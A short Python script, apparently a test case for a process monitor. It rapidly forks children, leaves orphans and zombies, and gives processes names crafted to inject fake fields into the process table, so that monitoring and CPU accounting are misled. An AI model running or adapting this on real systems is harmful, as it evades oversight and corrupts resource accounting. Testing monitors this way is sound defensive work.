"""Hundreds of children that live for a moment.

Each process takes a number, a line in a table and somebody to notice its end. The attack starts and abandons children as fast
as it can, leaves some as zombies, has others made orphans, and gives them names that look like lines of the table. Whoever
watches by reading that table, or counts what was used by it, may lose their way.
"""
# seen: children came and went

# %% attack
import ctypes
import os
import signal
import time

DONE = []


def mischief():
    if DONE:
        return
    DONE.append(True)
    libc, count, refused = ctypes.CDLL(None), 0, 0
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # nobody waits for them: their time is counted nowhere
    libc.prctl(15, b"x) S 0 1 1 0 -1\n(", 0, 0, 0)
    end = time.process_time() + 1
    while time.process_time() < end and count < 100:
        try:
            if not os.fork():
                if not os.fork():  # an orphan in a moment
                    libc.prctl(15, b") Z 2 2 2", 0, 0, 0)
                os._exit(0)
            count += 1
        except OSError:
            refused += 1
    signal.signal(signal.SIGCHLD, signal.SIG_DFL)
    for _ in range(30):  # and these stay as zombies
        try:
            if not os.fork():
                os._exit(0)
        except OSError:
            refused += 1
    print("children came and went:", count > 0, refused > 0)
